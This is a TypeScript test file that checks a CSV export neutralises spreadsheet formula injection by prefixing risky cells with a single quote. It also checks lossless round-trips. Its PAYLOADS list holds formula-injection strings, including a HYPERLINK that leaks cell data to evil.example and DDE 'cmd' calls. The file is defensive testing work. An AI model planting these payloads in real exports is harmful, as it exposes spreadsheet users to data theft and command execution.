import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { makeAnswers, makeTopic } from '../test/builders';
import { csvCell, fromCsvCell } from './csv-format';
import { topicsToCsv } from './export';
import { parseTopicsFile } from './import/parse';

/** The payloads of a security review's CSV finding, and OWASP's other formula leads. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+1',
];

/** A cell as a spreadsheet reads it: the first cell of a one-row CSV text. */
function readCell(text: string): string {
  const rows = parse(text) as string[][];
  return rows[0]?.[0] ?? '';
}

describe('CSV export neutralises formulas (OWASP CSV injection)', () => {
  it.each(PAYLOADS)('[TOPIC-6] writes %s as quoted text behind a single quote', (payload) => {
    const cell = csvCell(payload);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(readCell(cell)).toBe(`'${payload}`);
  });

  it.each(['\tTabbed', '\rReturned'])(
    '[TOPIC-6] neutralises a cell that begins with a tab or a return',
    (text) => {
      expect(readCell(csvCell(text))).toBe(`'${text}`);
    },
  );

  it('leaves ordinary cells as they were', () => {
    expect(csvCell('Pacific')).toBe('Pacific');
    expect(csvCell('Oceans, "largest" first')).toBe('"Oceans, ""largest"" first"');
    expect(csvCell("Rock 'n' roll")).toBe("Rock 'n' roll");
    expect(csvCell('')).toBe('');
  });

  it('[TOPIC-6] neutralises every formula cell of an exported topic: title, answers and aliases', () => {
    const [first, second, third, fourth] = PAYLOADS;
    const topic = makeTopic({
      title: first,
      answers: makeAnswers({ 1: { text: second! }, 2: { text: 'Indian', aliases: [third!] } }),
    });
    const [header, row] = topicsToCsv([topic]).split('\n');
    const cells = parse(`${header}\n${row}`, { columns: true }) as Array<Record<string, string>>;
    expect(cells[0]?.title).toBe(`'${first}`);
    expect(cells[0]?.answer2).toBe(`'${second}`);
    expect(cells[0]?.aliases3).toBe(`'${third}`);
    expect(fourth).toMatch(/^-/);
    for (const value of Object.values(cells[0] ?? {})) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('[TOPIC-6] reads back a neutralised export as it was: formulas, "-5 degrees" and quotes alike', () => {
    const topic = makeTopic({
      title: '-5 degrees and colder',
      answers: makeAnswers({
        0: { text: '=HYPERLINK("x")', aliases: ['@home'] },
        1: { text: "'=quoted already" },
        2: { text: "+cmd|' /C calc'!A0" },
        3: { text: "'Tis the season" },
      }),
    });
    expect(parseTopicsFile(topicsToCsv([topic]), 'csv')).toEqual({ ok: true, topics: [topic] });
  });

  it('[TOPIC-6] round-trips any cell text through csvCell, a CSV reader and fromCsvCell (property)', () => {
    const lead = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "''", "'=", "''-", ' ');
    fc.assert(
      fc.property(lead, fc.string({ unit: 'grapheme' }), (start, rest) => {
        const text = `${start}${rest}`;
        return fromCsvCell(readCell(`${csvCell(text)}\n`)) === text;
      }),
      { numRuns: 500 },
    );
  });

  it('[TOPIC-6] round-trips a topic whose title begins with any formula lead, losslessly (property)', () => {
    const lead = fc.constantFrom('', '=', '+', '-', '@', "'", "''", "'=", "'-", '-5 ');
    const word = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9 ,"'|()!*&-]{0,40}[A-Za-z0-9)]$/);
    fc.assert(
      fc.property(lead, word, (start, rest) => {
        const topic = makeTopic({ title: `${start}${rest}` });
        expect(parseTopicsFile(topicsToCsv([topic]), 'csv')).toEqual({ ok: true, topics: [topic] });
      }),
      { numRuns: 200 },
    );
  });
});
